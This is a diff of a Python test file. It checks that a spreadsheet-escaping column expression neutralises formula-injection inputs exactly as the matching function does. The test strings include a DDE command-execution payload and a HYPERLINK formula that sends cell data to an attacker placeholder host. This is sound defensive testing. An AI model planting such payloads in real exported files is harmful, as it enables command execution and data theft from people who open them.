@@ -56,3 +56,19 @@ def test_values_that_are_not_text_are_unchanged(value):
 
 def test_the_leading_characters_are_owasps_and_their_full_width_forms():
     assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def test_the_column_expression_writes_every_text_as_the_function_does():
+    # The open-data files quote whole columns at once; they must quote exactly as the function.
+    import polars as pl
+
+    from czesg.engine.kernel.spreadsheet import formula_safe_column
+
+    texts = ["=cmd|' /C calc'!A0", "+SUM(1,1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+             "@SUM(1)", "-1+2", "-", "\t=1+1", "\r=1+1", "＝1+1", "＋SUM(1,1)", "－1+2",
+             "＠SUM(1)", "", "母公司", "GRI 2-2", "a=b", "'already quoted", " =x", "-12",
+             "-12.5", "+3", "-1,200.5", "-.5", "-1e5", "-1E-3", "+.", "-1e5x", "-12\n", "\n=1",
+             "１", None]
+    frame = pl.DataFrame({"text": texts}, schema={"text": pl.Utf8})
+    assert frame.select(formula_safe_column("text"))["text"].to_list() == [
+        formula_safe(text) for text in texts]
